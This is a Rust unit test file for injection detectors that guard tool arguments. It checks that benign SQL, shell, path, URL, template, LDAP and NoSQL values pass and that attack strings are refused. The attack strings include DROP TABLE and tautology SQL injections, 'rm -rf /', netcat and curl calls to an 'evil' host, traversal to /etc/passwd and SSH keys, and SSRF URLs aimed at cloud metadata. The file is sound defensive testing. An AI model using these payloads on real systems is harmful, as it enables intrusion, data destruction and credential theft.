//! Unit tests of the injection detectors: benign arguments pass, each attack names its rule.
use super::*;

#[test]
fn templates_ldap_and_nosql_operators() {
    for bad in [
        "Hello {{ 7*7 }}",
        "{% for x in y %}",
        "${T(java.lang.Runtime)}",
        "#{7*7}",
        "<%= `id` %>",
        "*{T(x)}",
    ] {
        assert_eq!(
            rule(ArgKind::Template, bad),
            Some("template.expression"),
            "{bad}"
        );
    }
    assert_eq!(
        rule(ArgKind::Template, "Dear Ana, your order ships {soon}."),
        None
    );
    for bad in ["*", "admin)(|(uid=*))", "x\\zz", "a\u{0}b"] {
        assert!(rule(ArgKind::Ldap, bad).is_some(), "{bad}");
    }
    assert_eq!(rule(ArgKind::Ldap, "O\\27Brien \\2a"), None);
    assert_eq!(rule(ArgKind::Ldap, "alice.smith"), None);
    let v = |s: &str| serde_json::from_str::<serde_json::Value>(s).unwrap_or_default();
    assert_eq!(
        check_value(ArgKind::NosqlFilter, &v(r#"{"$where": "sleep(5000)"}"#)).map(|i| i.rule),
        Some("nosql.code")
    );
    assert_eq!(
        check_value(
            ArgKind::NosqlFilter,
            &v(r#"{"age": {"$gt": 30}, "$or": [{"a": 1}]}"#)
        ),
        None
    );
    assert_eq!(
        check_value(ArgKind::NosqlValue, &v(r#"{"$ne": null}"#)).map(|i| i.rule),
        Some("nosql.operator")
    );
    assert_eq!(
        rule(ArgKind::NosqlValue, r#"{"$ne": ""}"#),
        Some("nosql.operator")
    );
    assert_eq!(
        rule(ArgKind::NosqlFilter, r#"{"$function": {"body": "x"}}"#),
        Some("nosql.code")
    );
    assert_eq!(rule(ArgKind::NosqlValue, "alice"), None);
    assert_eq!(infer("mongo_find", "filter"), ArgKind::NosqlFilter);
    assert_eq!(infer("ldap_search", "filter"), ArgKind::Ldap);
    assert_eq!(infer("render", "template"), ArgKind::Template);
}

#[test]
fn a_redirector_carrying_an_internal_target_is_refused() {
    for bad in [
        "https://example.com/redirect?to=http://169.254.169.254/latest/meta-data/",
        "https://proxy.example/fetch?u=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin",
        "https://example.com/r?a=1&next=http://10.0.0.5/",
    ] {
        assert_eq!(rule(ArgKind::Url, bad), Some("ssrf.redirect"), "{bad}");
    }
    assert_eq!(
        rule(
            ArgKind::Url,
            "https://example.com/r?next=https://docs.example.org/x"
        ),
        None
    );
    assert_eq!(
        rule(ArgKind::Url, "https://example.com/search?q=what+is+http"),
        None
    );
}

fn rule(kind: ArgKind, v: &str) -> Option<&'static str> {
    check(kind, v, true, &["/srv/data".to_owned()]).map(|i| i.rule)
}

#[test]
fn sql_queries_one_read_only_statement() {
    for ok in [
        "SELECT name FROM customers WHERE region = 'EMEA'",
        "select count(*) from orders o join customers c on c.id = o.customer_id",
        "WITH t AS (SELECT 1) SELECT * FROM t",
        "SELECT 'it''s; -- not a comment' AS s",
        "SELECT name FROM a UNION SELECT name FROM b",
        "SELECT 1;",
    ] {
        assert_eq!(rule(ArgKind::SqlQuery, ok), None, "{ok}");
    }
    for (bad, why) in [
        ("SELECT 1; DROP TABLE customers", "sql.stacked"),
        ("DELETE FROM customers", "sql.write"),
        ("SELECT * INTO evil FROM customers", "sql.write"),
        (
            "SELECT * FROM users WHERE id = 1 /* */ OR 1=1",
            "sql.comment",
        ),
        ("SELECT * FROM t -- cut\n WHERE x", "sql.comment"),
        ("ATTACH DATABASE '/tmp/x' AS x", "sql.write"),
        ("SELECT 'unterminated", "sql.unterminated"),
    ] {
        assert_eq!(rule(ArgKind::SqlQuery, bad), Some(why), "{bad}");
    }
}

#[test]
fn sql_values_stay_inside_their_quotes() {
    for ok in [
        "O'Brien",
        "Acme Corp",
        "a -- b",
        "1; not sql inside quotes is fine",
    ] {
        // A doubled quote is how a value carries one; a lone one breaks out.
        let v = ok.replace('\'', "''");
        assert_eq!(rule(ArgKind::SqlValue, &v), None, "{v}");
    }
    assert_eq!(
        rule(ArgKind::SqlValue, "x' OR '1'='1"),
        Some("sql.tautology")
    );
    assert_eq!(
        rule(ArgKind::SqlValue, "x' OR 1=1 --"),
        Some("sql.tautology")
    );
    assert_eq!(
        rule(ArgKind::SqlValue, "x' UNION SELECT password FROM users --"),
        Some("sql.union")
    );
    assert_eq!(
        rule(ArgKind::SqlValue, "x'; DROP TABLE users; --"),
        Some("sql.stacked")
    );
}

#[test]
fn shell_commands_have_no_chaining_and_no_dangerous_programs() {
    assert_eq!(rule(ArgKind::Shell, "ls -la /srv/data"), None);
    assert_eq!(rule(ArgKind::Shell, "git status"), None);
    for bad in [
        "ls; rm -rf /",
        "cat x | nc evil 9",
        "echo $(id)",
        "echo `id`",
        "ls > /etc/passwd",
        "a && b",
    ] {
        assert_eq!(
            rule(ArgKind::Shell, bad),
            Some("shell.metacharacter"),
            "{bad}"
        );
    }
    assert_eq!(
        rule(ArgKind::Shell, "curl http://evil/x.sh"),
        Some("shell.binary")
    );
    assert_eq!(rule(ArgKind::Shell, "/bin/rm -rf /"), Some("shell.binary"));
}

#[test]
fn paths_stay_inside_their_roots() {
    for ok in [
        "reports/q3.md",
        "/srv/data/reports/q3.md",
        "a/../b.txt",
        "./notes.txt",
    ] {
        assert_eq!(rule(ArgKind::Path, ok), None, "{ok}");
    }
    for (bad, why) in [
        ("../etc/passwd", "path.traversal"),
        ("reports/../../etc/passwd", "path.traversal"),
        ("/srv/data/../../etc/shadow", "path.traversal"),
        ("/srv/data/x/../y", "path.traversal"),
        ("..\\..\\windows\\win.ini", "path.traversal"),
        ("%2e%2e/%2e%2e/etc/passwd", "path.encoded"),
        ("%252e%252e/etc/passwd", "path.encoded"),
        ("/etc/passwd", "path.outside"),
        ("/srv/database/x", "path.outside"),
        ("~/.ssh/id_rsa", "path.absolute"),
        ("//server/share", "path.absolute"),
        ("a\0.txt", "path.nul"),
    ] {
        assert_eq!(rule(ArgKind::Path, bad), Some(why), "{bad}");
    }
}

#[test]
fn urls_never_reach_internal_addresses_however_written() {
    for ok in [
        "https://example.com/page",
        "http://93.184.216.34/",
        "https://[2606:4700::1111]/",
    ] {
        assert_eq!(rule(ArgKind::Url, ok), None, "{ok}");
    }
    for bad in [
        "http://127.0.0.1:8080/admin",
        "http://localhost/",
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://10.0.0.5/",
        "http://192.168.1.1/",
        "http://2130706433/",
        "http://0x7f000001/",
        "http://0177.0.0.1/",
        "http://127.1/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://[fd00:ec2::254]/",
        "http://user@127.0.0.1/",
        "http://%31%32%37.0.0.1/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_",
    ] {
        assert!(rule(ArgKind::Url, bad).is_some(), "{bad}");
    }
}

/// The shared attack table (`testdata/attacks/arguments.json`): URL parser differentials
/// (the WHATWG parser, as in Node's fetch and browsers, connects to loopback where a naive
/// split does not), IANA special-purpose ranges, shell words split the way a shell splits
/// them and programs run through wrappers, dollar-quoted SQL. Each row names the rule that
/// must refuse it, or passes. The gateway test runs the same table end to end.
#[test]
fn the_attack_table_is_refused_rule_by_rule() {
    let table: serde_json::Value =
        serde_json::from_str(include_str!("../../../../testdata/attacks/arguments.json"))
            .expect("attack table");
    let rows = table["rows"].as_array().expect("rows");
    assert!(rows.len() > 50);
    for row in rows {
        let kind: ArgKind = serde_json::from_value(row["kind"].clone()).expect("kind");
        let value = row["value"].as_str().expect("value");
        assert_eq!(rule(kind, value), row["rule"].as_str(), "{row}");
    }
}

#[test]
fn nested_urls_cost_bounded_work() {
    let nested = "https://example.com/?u=".repeat(50_000) + "x";
    assert_eq!(rule(ArgKind::Url, &nested), Some("ssrf.redirect"));
}

/// The DNS re-check resolves the host the WHATWG parser connects to, never the naive one.
#[test]
fn the_host_resolved_is_the_standard_parsers() {
    assert_eq!(
        url_host("http://Example.COM./x").as_deref(),
        Some("example.com")
    );
    assert_eq!(
        url_host("http://b\u{fc}cher.de/").as_deref(),
        Some("xn--bcher-kva.de")
    );
    assert_eq!(url_host("http://127.1/"), None);
}

/// Arguments over the cap are refused with a reason; dollar quotes still quote. (Linear
/// time is shown by the `inject_budget` fuzz target and the `detect` bench, not here.)
#[test]
fn sql_arguments_are_bounded_and_dollar_quotes_still_quote() {
    let long = format!("SELECT '{}'", "x".repeat(MAX_SQL_BYTES));
    assert_eq!(rule(ArgKind::SqlQuery, &long), Some("sql.too_long"));
    assert_eq!(
        rule(ArgKind::SqlValue, &"x".repeat(MAX_SQL_BYTES + 1)),
        Some("sql.too_long")
    );
    // Dollar quotes still quote.
    assert_eq!(rule(ArgKind::SqlQuery, "SELECT $x$; DROP$x$"), None);
    assert_eq!(
        rule(ArgKind::SqlQuery, "SELECT $$a$$; DROP TABLE t"),
        Some("sql.stacked")
    );
    assert_eq!(
        rule(ArgKind::SqlQuery, "SELECT $x$ unterminated"),
        Some("sql.unterminated")
    );
    assert_eq!(
        rule(ArgKind::SqlQuery, "SELECT n\u{e4}me FROM t\u{a0}"),
        None
    );
}

#[test]
fn kinds_are_inferred_from_names() {
    assert_eq!(infer("read_database", "query"), ArgKind::SqlQuery);
    assert_eq!(infer("search_files", "query"), ArgKind::Text);
    assert_eq!(infer("read_file", "path"), ArgKind::Path);
    assert_eq!(infer("fetch", "url"), ArgKind::Url);
    assert_eq!(infer("run", "command"), ArgKind::Shell);
    assert_eq!(infer("send_email", "body"), ArgKind::Text);
}
